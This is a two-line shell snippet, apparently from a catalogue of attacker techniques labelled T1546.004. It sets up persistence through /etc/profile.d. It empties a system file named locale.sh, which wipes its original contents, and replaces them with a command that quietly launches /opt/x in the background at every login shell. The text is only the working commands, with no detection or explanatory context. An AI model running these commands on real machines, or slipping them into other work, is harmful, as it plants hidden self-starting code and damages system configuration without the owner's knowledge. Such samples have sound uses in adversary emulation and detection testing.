# title: A script in /etc/profile.d
# technique: T1546.004

cp /dev/null /etc/profile.d/locale.sh
echo 'nohup /opt/x >/dev/null 2>&1 &' >>/etc/profile.d/locale.sh
